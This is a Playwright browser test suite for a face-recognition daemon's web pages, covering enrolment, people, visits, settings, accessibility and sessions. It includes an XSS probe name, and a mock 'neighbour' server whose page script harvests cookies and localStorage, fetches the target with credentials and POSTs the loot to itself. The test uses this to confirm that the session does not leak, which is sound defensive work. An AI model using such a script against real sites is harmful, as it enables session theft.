"""The page as people use it: in a real browser, on a real daemon."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import pairwise
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.error import HTTPError
from urllib.request import Request, urlopen

import cv2
import numpy as np
import pytest
from fixtures.broker import authority, eventually, needs_openssl
from fixtures.browser import AXE, CHROMIUM, FLAGS, Door, needs_axe, needs_browser
from fixtures.optional import needed
from fixtures.page import serving
from playwright.sync_api import Browser, Locator, Page

from edgeface.config.load import load
from edgeface.vision.images import load_image
from edgeface.web.certificate import HomeCertificate

pytestmark = [needs_browser, pytest.mark.slow]
VIEWS = {name: f"/{name}" for name in ("people", "visits", "unknown", "enroll", "health", "settings", "regions", "phone")} | {
    "welcome": "/welcome",
    "live": "/",
}
MAX_LOAD = 200 * 1024
TAKEN = {
    "": {"people", "visits", "unknown", "health", "settings"},
    "-dark": {"live", "visits"},
    "-phone": {"live", "people", "visits"},
}
"""The views that are in the documentation; "live" and "enroll" are taken while something happens."""
SECONDS = 20_000
"""Milliseconds that the browser waits for anything: a busy machine is no fault of the page's."""


@pytest.fixture(scope="module")
def door(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
    running = Door(tmp_path_factory.mktemp("door"))
    yield running
    running.close()


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    from playwright.sync_api import expect, sync_playwright

    expect.set_options(timeout=SECONDS)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def open_page(door: Door, chromium: Browser) -> Iterator[Callable[..., Page]]:
    """Opens a page that is signed in; whatever goes wrong in it fails the test."""
    faults, contexts = [], []

    def open_(**options: Any) -> Page:
        context = chromium.new_context(**{"viewport": {"width": 1280, "height": 860}, "locale": "en-GB"} | options)
        contexts.append(context)
        context.set_default_timeout(SECONDS)
        page = context.new_page()
        page.on("pageerror", lambda error: faults.append(str(error)))
        page.on("console", lambda line: faults.append(line.text) if "Content Security Policy" in line.text else None)
        page.goto(door.link)
        return page

    yield open_
    for context in contexts:
        context.close()
    assert not faults


def signed(page: Page, path: str) -> str:
    """The address of a view in the session that a page has."""
    return needed(re.match(r"https?://[^/]+/~[^/]+", page.url))[0] + path


@pytest.fixture
def screenshot(request: pytest.FixtureRequest) -> Callable[..., None]:
    """Takes a picture for the documentation, where ``--screenshots`` says."""
    folder = request.config.getoption("--screenshots")

    def take(page: Page, name: str) -> None:
        if folder:
            Path(folder).mkdir(parents=True, exist_ok=True)
            page.screenshot(path=Path(folder) / f"{name}.png")

    return take


def test_from_a_stranger_to_a_friend_and_back(
    door: Door, open_page: Callable[..., Page], screenshot: Callable[..., None], demo_photos: Path
) -> None:
    from playwright.sync_api import expect

    page = open_page()
    assert re.fullmatch(rf"{door.address}/~[\w-]+/", page.url)  # the token is gone from the address
    door.show(demo_photos / "obama_portrait.jpg")
    expect(page.locator(".box").first).to_contain_text(re.compile("Looking|Unknown"))

    # The first steps
    page.get_by_role("link", name="Get started in three steps").click()
    step = page.locator("[aria-current=step]")
    expect(step).to_contain_text("Enroll the first person")
    expect(page.locator("[data-picture]")).to_be_visible()
    expect(page.get_by_role("listitem").filter(has_text="The camera works")).to_contain_text("done")

    # Enroll, told what to do
    step.get_by_role("link", name="Enroll the first person").click()
    page.get_by_label("Name", exact=True).fill("Barack")
    page.get_by_role("button", name="Start with the camera").click()
    progress = page.get_by_role("progressbar", name="Views taken")
    hint = page.locator("[data-hint]")
    expect(hint).to_have_text(re.compile("turn|look|change|taken"))
    expect(page.locator("[data-ring]")).not_to_have_attribute("stroke-dasharray", "0 100")
    screenshot(page, "enroll")
    door.show(demo_photos / "obama_congress.jpg")
    expect(progress).to_have_js_property("value", 2)
    page.get_by_role("button", name="That is enough").click()
    expect(page.locator("[data-told]")).to_contain_text("Barack is known from 2 views now.")
    expect(page.locator("[data-told]")).to_contain_text("Will be recognized from about")

    page.goto(signed(page, "/welcome"))
    expect(step).to_contain_text("What next")
    expect(page.get_by_text("Barack will be recognized.")).to_be_visible()

    # They leave and come back: the visit is on the page, and on the broker
    door.empty()
    before = json.loads(door.edgeface("events", "list", "--json").stdout)["events"]
    door.edgeface("events", "dismiss", *(event["event_id"] for event in before if event["name"] is None))
    page.get_by_role("navigation").get_by_role("link", name="Live").click()
    expect(page.get_by_text("Nobody at the moment.")).to_be_visible()
    door.show(demo_photos / "obama_press_room.jpg")
    expect(page.locator(".box.known")).to_contain_text("Barack")
    expect(page.locator("[data-refresh]")).to_contain_text("Barack")
    assert eventually(lambda: [event for event in door.events.on("/event") if event.get("name") == "Barack"])
    expect(page.locator("[data-refresh] img").first).to_have_js_property("complete", True)
    screenshot(page, "live")

    # Another name, text whatever it is
    details = drawer(page, "Barack")
    details.get_by_text("Rename").first.click()
    details.get_by_label("New name for Barack").fill("<script>alert(1)</script>")
    details.get_by_role("button", name="Rename").click()
    expect(page.get_by_role("status").first).to_contain_text("The name is <script>alert(1)</script> now.")
    page.get_by_text("Rename").first.click()
    page.get_by_label("New name for").fill("Barack O.")
    page.get_by_role("button", name="Rename").click()
    expect(page.get_by_role("heading", name="Barack O.")).to_be_visible()
    assert "Barack O." in door.edgeface("people", "list").stdout

    # It was them; no, it was not
    page.get_by_role("link", name="Visits", exact=True).first.click()
    page.get_by_role("button", name=re.compile("^That.s right")).first.click()
    expect(page.get_by_text("You said: right").first).to_be_visible()
    page.get_by_role("button", name=re.compile("^Not Barack O")).first.click()
    doubted = page.get_by_role("button", name="All the same: not Barack O.")
    expect(page.locator(".note").first).to_be_visible()
    if doubted.count():
        doubted.click()
    expect(page.get_by_text("You said: not Barack O.").first).to_be_visible()
    judged = json.loads(door.edgeface("events", "list", "--json").stdout)["events"]
    assert [event["name"] for event in judged if event["verdict"] == "rejected"] == ["Barack O."]

    # One view of two is deleted
    details = drawer(page, "Barack O.")
    details.get_by_text("Delete").first.click()
    details.get_by_role("button", name="Delete view 1").click()
    expect(page.get_by_role("status").first).to_contain_text("The view is deleted.")
    assert json.loads(door.edgeface("people", "list", "--json").stdout)["people"][0]["templates"] == 1

    # Forget: gone from everywhere
    details = drawer(page, "Barack O.")
    details.get_by_text("Forget").first.click()
    details.get_by_role("button", name="Forget Barack O. for good").click()
    expect(page.get_by_role("status").first).to_contain_text("Barack O. is forgotten")
    for path in VIEWS.values():
        page.goto(signed(page, path))
        assert "Barack" not in page.content(), path
    assert json.loads(door.edgeface("people", "list", "--json").stdout) == {"people": []}
    door.empty()


def drawer(page: Page, name: str) -> Locator:
    """The details of a person, opened beside the list."""
    page.get_by_role("navigation").get_by_role("link", name="People").click()
    page.wait_for_url("**/people")
    page.wait_for_load_state()  # until then the script is not there, and the link leads to the page of its own
    page.get_by_role("main").get_by_role("link", name=re.compile(f"^{re.escape(name)}")).click()
    return page.get_by_role("dialog")


def test_a_wrong_name_is_told_beside_the_live_picture(door: Door, open_page: Callable[..., Page], demo_photos: Path) -> None:
    from playwright.sync_api import expect

    door.edgeface("enroll", "Eve", "--image", str(demo_photos / "collins_portrait.jpg"))
    page, before = open_page(), door.arrivals()
    door.show(demo_photos / "collins_portrait.jpg")
    assert eventually(lambda: door.arrivals() > before, 60)
    card = page.locator("[data-refresh] li").first
    expect(card).to_contain_text("Eve")
    expect(page.locator("[data-in-view] canvas")).to_be_visible()
    card.get_by_role("button", name=re.compile("^That.s wrong")).click()
    expect(page.get_by_role("status").first).to_have_text(
        "Noted: that was not Eve. This face will not be recognized as Eve again."
    )
    expect(page.locator("[data-refresh] li").first).to_contain_text("You said: not Eve")
    assert re.search(r"/~[\w-]+/\?note=", page.url)
    door.edgeface("people", "forget", "Eve")
    door.empty()


def test_a_stranger_is_one_row_and_gets_a_name(
    door: Door, open_page: Callable[..., Page], screenshot: Callable[..., None], demo_photos: Path
) -> None:
    from playwright.sync_api import expect

    page = open_page()
    for _ in range(2):
        before = len(unknown(door))
        door.show(demo_photos / "collins_portrait.jpg")
        assert eventually(lambda: len(unknown(door)) > before, 60)  # noqa: B023
        door.empty()
    page.goto(signed(page, "/unknown"))
    row = page.locator(".stranger").filter(has_text="2 visits")
    expect(row).to_have_count(1)
    expect(row.locator("img")).to_have_count(2)
    row.get_by_label("Name of this visitor").fill("Eileen")
    row.get_by_role("button", name="Save name").click()
    expect(page.get_by_role("status").first).to_contain_text("That was Eileen")
    door.show(demo_photos / "collins_portrait.jpg")
    assert eventually(lambda: [event for event in door.events.on("/event") if event.get("name") == "Eileen"], 60)
    door.empty()
    others = page.locator(".stranger")
    for _ in range(others.count()):
        others.first.get_by_role("button", name="Dismiss").click()
        expect(page.get_by_role("status").first).to_contain_text("Dismissed")
    expect(page.get_by_text("Nobody unknown was here.")).to_be_visible()


def unknown(door: Door) -> list[Any]:
    return [event for event in door.events.on("/event") if event["event_type"] == "unknown"]


@pytest.fixture(scope="module")
def furnished(door: Door, demo_photos: Path) -> Door:
    """Two people, their visits and a stranger, so that each view has something to show."""
    door.edgeface("enroll", "Eileen", "--image", str(demo_photos / "collins_portrait.jpg"))
    for name in ("obama_portrait", "obama_press_room", "obama_congress"):
        door.edgeface("enroll", "Barack", "--image", str(demo_photos / f"{name}.jpg"))
    for scene in ("biden_portrait", "collins_portrait", "obama_press_room"):
        door.empty()
        count = door.arrivals()
        door.show(demo_photos / f"{scene}.jpg")
        assert eventually(lambda: door.arrivals() > count, 60)  # noqa: B023
    return door


@pytest.mark.parametrize("view", VIEWS)
def test_a_view_is_small_and_loads_nothing_from_elsewhere(furnished: Door, open_page: Callable[..., Page], view: str) -> None:
    page, asked = open_page(), []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(signed(page, VIEWS[view]), wait_until="load")
    page.wait_for_timeout(300)
    loaded = page.evaluate(
        "[...performance.getEntriesByType('navigation'), ...performance.getEntriesByType('resource')]"
        ".map(entry => [entry.name, entry.encodedBodySize])"
    )
    pictures = [size for name, size in loaded if "/live/picture" in name]
    size = sum(size for name, size in loaded if "/live/picture" not in name) + max(pictures, default=0)
    assert 10_000 < size < MAX_LOAD, loaded  # with one picture of the camera, of which a new one comes every moment
    assert all(url.startswith((furnished.address, "blob:")) for url in asked), asked


def test_people_are_searched_and_filter_visits(
    furnished: Door, open_page: Callable[..., Page], screenshot: Callable[..., None]
) -> None:
    from playwright.sync_api import expect

    page = open_page()
    page.goto(signed(page, "/people"))
    page.get_by_label("Search").fill("eIl")
    page.get_by_label("Search").press("Enter")
    expect(page.get_by_text("1 of 2 people")).to_be_visible()
    page.wait_for_load_state()
    page.get_by_role("main").get_by_role("link", name=re.compile("^Eileen")).click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_text("View 1").first).to_be_visible()
    expect(dialog.locator("img").first).to_have_js_property("complete", True)
    screenshot(page, "person")
    dialog.get_by_role("button", name="Close").click()
    expect(dialog).to_be_hidden()
    page.get_by_role("main").get_by_role("link", name=re.compile("^Eileen")).click()
    dialog.get_by_role("link", name="Visits").click()
    expect(page.get_by_label("Who", exact=True)).to_have_value("Eileen")
    assert set(page.locator(".visit strong").all_inner_texts()) == {"Eileen"}
    page.get_by_label("Who", exact=True).fill("Unknown")
    page.get_by_role("button", name="Show").click()
    assert set(page.locator(".visit strong").all_inner_texts()) == {"Unknown person"}
    expect(page.locator("svg.timeline").first).to_be_visible()


def test_a_lost_camera_greys_the_picture_and_says_what_helps(chromium: Browser, tmp_path: Path, demo_photos: Path) -> None:
    from playwright.sync_api import expect

    with serving(tmp_path) as served:
        context = chromium.new_context()
        context.set_default_timeout(SECONDS)
        page = context.new_page()
        served.stage.scene = load_image(demo_photos / "obama_portrait.jpg")
        page.goto(f"http://127.0.0.1:{served.port}/?token={served.token.text()}")
        expect(page.locator("[data-picture]")).to_be_visible()
        expect(page.locator("[data-lost]")).to_be_hidden()
        served.stage.scene = "the cable was pulled"
        expect(page.locator("[data-lost]")).to_contain_text("The cable was pulled. Check the camera's cable")
        expect(page.locator("[data-picture]")).to_have_css("filter", "grayscale(1)")
        page.reload()
        expect(page.locator("[data-lost]")).to_contain_text("The cable was pulled.")
        served.stage.scene = load_image(demo_photos / "obama_portrait.jpg")
        expect(page.locator("[data-lost]")).to_be_hidden()
        expect(page.locator("[data-picture]")).to_have_css("filter", "none")
        context.close()


def test_enrollment_shows_a_mirror_and_remembers_that_it_is_silent(furnished: Door, open_page: Callable[..., Page]) -> None:
    from playwright.sync_api import expect

    page = open_page()
    page.locator(".box").first.wait_for()
    middle = "box => parseFloat(box.style.left) + parseFloat(box.style.width) / 2"
    there = page.locator(".box").first.evaluate(middle)
    page.goto(signed(page, "/enroll"))
    page.locator(".box").first.wait_for()
    assert page.locator(".box").first.evaluate(middle) == pytest.approx(100 - there, abs=3)
    sound = page.get_by_label("Play a sound for each view")
    expect(sound).to_be_checked()
    sound.uncheck()
    page.reload()
    expect(sound).not_to_be_checked()


def test_settings_are_changed_and_taken_back_on_the_page(furnished: Door, open_page: Callable[..., Page]) -> None:
    from playwright.sync_api import expect

    def in_effect(name: str) -> tuple[Any, str]:
        rows = json.loads(furnished.edgeface("config", "show", "--json").stdout)["settings"]
        return next((row["value"], Path(row["origin"]).name) for row in rows if f"{row['section']}.{row['name']}" == name)

    page = open_page()
    page.goto(signed(page, "/settings"))
    expect(page.get_by_label("Left after")).to_have_value("1")
    page.get_by_label("Left after").fill("1.5")
    page.get_by_label("Strictness").select_option(label="Strict: 1 in 10,000; people are missed more often")
    page.get_by_label("Show unknown visitors").uncheck()
    page.get_by_label("Language of notifications").select_option(label="Deutsch")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status").first).to_have_text("The change is in effect.")
    assert in_effect("presence.left_after") == (1.5, "settings.toml")
    assert in_effect("matching.target_fpir") == (0.0001, "settings.toml")
    assert in_effect("device.language") == ("de", "settings.toml")
    assert in_effect("web.pictures") == (True, "edgeface.toml")
    page.get_by_role("navigation").get_by_role("link", name="Unknown").click()  # still signed in
    expect(page.get_by_text("are not shown")).to_be_visible()
    page.get_by_role("navigation").get_by_role("link", name="Settings").click()
    page.get_by_label("Left after").fill("soon")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("alert").first).to_contain_text("Not changed: presence.left_after: 'soon' is neither a number")
    for title in ("Left after", "Strictness", "Show unknown visitors", "Language of notifications"):
        page.get_by_role("button", name=re.compile(f"^Take back.*{title}")).click()
        expect(page.get_by_role("status").first).to_have_text("The change is in effect.")
    assert in_effect("presence.left_after") == (1.0, "edgeface.toml")
    assert in_effect("matching.target_fpir") == (0.001, "default")
    assert in_effect("web.unknown") == (True, "edgeface.toml")
    notes = [json.loads(line) for line in (furnished.folder / "gallery" / "audit.jsonl").read_text().splitlines()]
    assert [note["by"] for note in notes if note["action"] == "configure"] == 5 * [{"web": True}]


@needs_axe
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1440, 820, 390])
def test_axe_finds_nothing_serious(furnished: Door, open_page: Callable[..., Page], scheme: str, width: int) -> None:
    page = open_page(color_scheme=scheme, viewport={"width": width, "height": 844})
    for view, path in VIEWS.items():
        page.goto(signed(page, path))
        if path in ("/", "/enroll", "/regions"):
            page.locator("[data-picture]").wait_for(state="visible")
        page.evaluate("for (const details of document.querySelectorAll('details')) details.open = true")
        page.evaluate(Path(AXE).read_text())
        found = page.evaluate("axe.run(document)")
        assert len(found["passes"]) > 10
        serious = [rule for rule in found["violations"] if rule["impact"] in ("serious", "critical", "moderate")]
        assert not serious, (view, [(rule["id"], [node["html"] for node in rule["nodes"]]) for rule in serious])


def test_it_is_used_with_keys_alone(furnished: Door, open_page: Callable[..., Page]) -> None:
    page = open_page()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page.goto(signed(page, "/people"))
    reached = reached_by_tab(page)
    assert {"Live", "Health", "Add somebody", "Show"} <= reached
    page.get_by_role("main").get_by_role("link", name=re.compile("^Barack")).focus()
    page.keyboard.press("Enter")
    page.get_by_role("dialog").get_by_role("button", name="Close").wait_for()
    assert {"Rename Barack", "Forget Barack"} <= reached_by_tab(page)
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline != "none" or page.evaluate("document.activeElement === document.body")


def reached_by_tab(page: Page) -> set[str]:
    reached = set()
    for _ in range(60):
        page.keyboard.press("Tab")
        reached.add(page.evaluate("document.activeElement.textContent.trim()"))
    return reached


@pytest.mark.parametrize(
    ("suffix", "options"),
    [
        ("", {}),
        ("-dark", {"color_scheme": "dark"}),
        ("-phone", {"viewport": {"width": 390, "height": 844}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True}),
    ],
)
def test_nothing_is_cut_off_at_any_width(
    furnished: Door, open_page: Callable[..., Page], screenshot: Callable[..., None], suffix: str, options: dict[str, str | Any]
) -> None:
    page = open_page(**options)
    for view, path in VIEWS.items():
        page.goto(signed(page, path))
        if path in ("/", "/enroll"):
            page.locator(".box.known").first.wait_for(state="visible")
        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth"), view
        if view in TAKEN[suffix]:
            screenshot(page, f"{view}{suffix}")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 820, 1440])
def test_masks_and_zones_fit_every_width(
    furnished: Door, open_page: Callable[..., Page], screenshot: Callable[..., None], width: int, scheme: str
) -> None:
    from playwright.sync_api import expect

    page = open_page(color_scheme=scheme, viewport={"width": width, "height": 900})
    page.goto(signed(page, "/regions"))
    page.locator("[data-picture]").wait_for(state="visible")
    picture = page.locator("[data-drawing]")
    size = needed(picture.bounding_box())
    for x, y in ((0.1, 0.2), (0.4, 0.15), (0.45, 0.8), (0.08, 0.75)):
        picture.click(position={"x": x * size["width"], "y": y * size["height"]})
    page.get_by_label("Name").fill("mirror")
    expect(page.locator("[data-lines]")).to_contain_text('name = "mirror"')
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    for card in page.locator("main .card").all():
        box = needed(card.bounding_box())
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= width
    if AXE:
        page.evaluate(Path(AXE).read_text())
        assert not [rule["id"] for rule in page.evaluate("axe.run(document)")["violations"]]
    page.evaluate("scrollTo(0, 0)")
    screenshot(page, f"regions-{width}{'-dark' if scheme == 'dark' else ''}")


@pytest.mark.parametrize("locale", ["de-DE", "es-ES", "fr-FR", "nl-NL"])
def test_longer_words_are_not_cut_off_on_a_phone(furnished: Door, open_page: Callable[..., Page], locale: str) -> None:
    from playwright.sync_api import expect

    page = open_page(locale=locale, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    for view, path in VIEWS.items():
        page.goto(signed(page, path))
        assert page.evaluate("document.documentElement.lang") == locale[:2]
        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth"), view
        cut = page.evaluate(
            "[...document.querySelectorAll('nav span, button, .button, label, legend, h1, h2, dt, dd, summary')]"
            ".filter((node) => !node.closest('.hidden, [hidden]') && node.scrollWidth > node.clientWidth"
            " && getComputedStyle(node).display !== 'inline').map((node) => node.textContent)"
        )
        assert cut == [], view
        edges = "(nodes) => nodes.map((node) => node.getBoundingClientRect()).map((box) => [box.left, box.right])"
        tabs, labels = (page.locator(f".top nav {part}").evaluate_all(edges) for part in ("li", "li span"))
        assert all(right - left >= 40 for left, right in tabs), view
        assert all(following - right >= 4 for (_, right), (following, _) in pairwise(labels)), view
    said = {"de": "Alles funktioniert.", "es": "Todo funciona.", "fr": "Tout fonctionne.", "nl": "Alles werkt."}
    page.goto(signed(page, "/health"))
    expect(page.locator(".note.good")).to_have_text(said[locale[:2]])
    page.goto(signed(page, "/"))
    sure = {"de": "Bildqualität", "es": "calidad de imagen", "fr": "qualité d\u2019image", "nl": "beeldkwaliteit"}
    expect(page.locator("[data-in-view]")).to_contain_text(sure[locale[:2]])


def test_a_zone_that_is_drawn_is_one_for_the_settings(open_page: Callable[..., Page], tmp_path: Path) -> None:
    from playwright.sync_api import expect

    page = open_page(permissions=["clipboard-read", "clipboard-write"])
    page.get_by_role("link", name="Masks and zones").click()
    page.locator("[data-picture]").wait_for(state="visible")
    picture, lines = page.locator("[data-drawing]"), page.locator("[data-lines]")
    copy = page.get_by_role("button", name="Copy")
    expect(copy).to_be_disabled()
    page.get_by_label("Kind").select_option("zones")
    size = needed(picture.bounding_box())
    corners = [(0.1, 0.2), (0.6, 0.2), (0.9, 0.9), (0.5, 0.5), (0.1, 0.8)]
    for x, y in corners:
        picture.click(position={"x": x * size["width"], "y": y * size["height"]})
    page.get_by_role("button", name="Last corner back").click()
    expect(picture.locator("circle")).to_have_count(4)
    copy.click()
    expect(page.locator("[data-copied]")).to_be_empty()  # it has no name yet
    page.get_by_label("Name").fill("porch")
    copy.click()
    expect(page.locator("[data-copied]")).to_have_text("Copied.")
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    file = tmp_path / "edgeface.toml"
    file.write_text("[web]\nenabled = true\n" + page.evaluate("navigator.clipboard.readText()"))
    (zone,) = load(file).camera.zones
    assert zone.name == "porch"
    assert [pytest.approx(corner, abs=0.01) for corner in corners[:4]] == list(zone.points)
    page.get_by_role("button", name="Start again").click()
    expect(lines).to_contain_text("Three corners")


# Sessions


class Neighbourhood(ThreadingHTTPServer):
    """Remembers what a browser sends; ``target`` is what its page attacks."""

    def __init__(self, door: Door) -> None:
        super().__init__(("127.0.0.1", 0), Neighbour)
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.told: list[dict[str, Any]] = []
        self.target = door.address


class Neighbour(BaseHTTPRequestHandler):
    """Another server at the same host, which keeps what a browser sends it, and has its page try all that a script may."""

    SCRIPT = """<!doctype html><title>Neighbour</title><img src="AT/people"><script>
    (async () => {
      const told = { cookie: document.cookie, storage: { ...localStorage }, referrer: document.referrer, read: [] };
      for (const path of ["/", "/people", "/live/picture", "/static/page.js"])
        for (const mode of ["cors", "no-cors"])
          try { told.read.push(await (await fetch("AT" + path, { mode, credentials: "include" })).text()); } catch {}
      await fetch("/told", { method: "POST", body: JSON.stringify(told) });
      document.title = "Done";
    })();
    </script>"""
    server: Neighbourhood

    def do_GET(self) -> None:
        self.server.seen.append((self.path, dict(self.headers)))
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(self.SCRIPT.replace("AT", self.server.target).encode())

    def do_POST(self) -> None:
        self.server.told.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
        self.do_GET()

    def log_message(self, *words: object) -> None:
        pass


@pytest.fixture
def neighbour(door: Door) -> Iterator[Neighbourhood]:
    with Neighbourhood(door) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def test_another_port_of_the_host_gets_nothing_that_opens_the_page(
    door: Door, open_page: Callable[..., Page], neighbour: Neighbourhood
) -> None:
    from playwright.sync_api import expect

    page = open_page()
    key = signed(page, "").rpartition("/~")[2]
    page.goto(signed(page, "/people"))
    for path in ("/", "/people", "/~x/"):
        page.evaluate("address => { location.href = address }", f"http://127.0.0.1:{neighbour.server_port}{path}")
        page.wait_for_function("document.title === 'Done'")
    told = json.dumps(neighbour.told) + json.dumps(neighbour.seen)
    assert len(neighbour.told) == 3
    assert key not in told
    with pytest.raises(HTTPError) as refused:  # so that the tries below mean something: these are the headers of a browser
        opened(door.address + "/people", {})
    assert refused.value.code == 401
    for path, headers in [*neighbour.seen, ("/people", {"cookie": whole_cookie(page, door)})]:
        kept = {name: value for name, value in headers.items() if name.lower() != "host"}
        for tried in {path, *VIEWS.values()}:
            with pytest.raises(HTTPError) as refused:
                opened(door.address + tried, kept)
            assert refused.value.code == 401
    page.goto(f"{door.address}/people")  # the owner's browser is signed in as before
    expect(page.get_by_role("heading", name="People")).to_be_visible()


def whole_cookie(page: Page, door: Door) -> str:
    """All that a browser has for the page's session, as if another port had been sent it: still not the path."""
    return "; ".join(f"{cookie['name']}={cookie['value']}" for cookie in page.context.cookies(signed_root(page, door)))


def signed_root(page: Page, door: Door) -> str:
    page.goto(f"{door.address}/health")
    page.wait_for_url("**/~*/health")
    return page.url


def opened(address: str, headers: dict[str, str]) -> bytes:
    with urlopen(Request(address, headers=headers), timeout=30) as answer:
        return bytes(answer.read())


def test_a_short_or_an_old_address_leads_to_the_session_until_it_is_ended(door: Door, open_page: Callable[..., Page]) -> None:
    from playwright.sync_api import expect

    page, other = open_page(), open_page()
    for address in ("/people", "/~AAAAAAAAAAAAAAAAAAAAAA/people", "/~AAAA", "/"):
        page.goto(door.address + address)
        page.wait_for_url("**/~*/people" if "people" in address else "**/~*/")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
    for address in ("/people", "/"):
        page.goto(door.address + address)
        expect(page.get_by_role("heading", name="This page is locked")).to_be_visible()
    other.reload()
    expect(other.get_by_role("button", name="Sign out")).to_be_visible()
    assert page.evaluate("localStorage.length") == 0


def test_without_scripts_it_is_read_changed_and_left(door: Door, open_page: Callable[..., Page], demo_photos: Path) -> None:
    from playwright.sync_api import expect

    door.edgeface("enroll", "Anna", "--force", "--image", str(demo_photos / "collins_portrait.jpg"))
    page = open_page(java_script_enabled=False)
    for title in ("People", "Unknown", "Enroll", "Health", "Visits"):
        page.get_by_role("navigation").get_by_role("link", name=title, exact=True).click()
        expect(page.get_by_role("heading", level=1)).to_contain_text(title)
    page.get_by_role("button", name="Show").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text("Visits")
    page.get_by_role("navigation").get_by_role("link", name="People", exact=True).click()
    page.get_by_role("main").get_by_role("link", name=re.compile("^Anna")).click()
    page.get_by_text("Forget").first.click()
    page.get_by_role("button", name="Forget Anna for good").click()
    expect(page.get_by_role("status").first).to_contain_text("Anna is forgotten")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
    page.go_back()
    expect(page.get_by_role("heading", name="This page is locked")).to_be_visible()


@needs_openssl
def test_a_phone_reads_the_code_and_is_signed_in(chromium: Browser, tmp_path: Path) -> None:
    own = HomeCertificate(tmp_path)
    own.make("door", ["localhost"])
    with serving(tmp_path, tls_cert=str(own.path), tls_key=str(own.path), hosts=["localhost"], address="127.0.0.1") as served:
        context, phone = (chromium.new_context(ignore_https_errors=True) for _ in range(2))
        page = context.new_page()
        page.goto(f"https://127.0.0.1:{served.port}/?token={served.token.text()}")
        page.get_by_role("link", name="On a phone").click()
        picture = page.get_by_role("img", name="QR code").screenshot()
        link = cv2.QRCodeDetector().detectAndDecode(cv2.imdecode(np.frombuffer(picture, np.uint8), cv2.IMREAD_COLOR))[0]
        assert link.startswith(f"https://localhost:{served.port}/?token=")
        assert served.token.text() not in link
        there = phone.new_page()
        there.goto(link)
        there.get_by_role("link", name="On a phone").click()
        with there.expect_download() as download:
            there.get_by_role("link", name="Download the certificate").click()
        assert Path(download.value.path()).read_bytes() == own.trusted.read_bytes()
        phone.close()
        context.close()


@needs_openssl
def test_it_is_used_encrypted(chromium: Browser, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    keys = authority(tmp_path / "keys")
    with serving(tmp_path, tls_cert=str(keys / "server.pem"), tls_key=str(keys / "server.key")) as served:
        context = chromium.new_context(ignore_https_errors=True)
        page = context.new_page()
        page.goto(f"https://127.0.0.1:{served.port}/?token={served.token.text()}")
        page.get_by_role("link", name="People").click()
        expect(page.get_by_role("heading", name="People")).to_be_visible()
        (cookie,) = context.cookies()
        assert (cookie["name"], cookie["secure"], cookie["path"]) == (f"__Host-edgeface-{served.port}", True, "/")
        page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
        context.close()
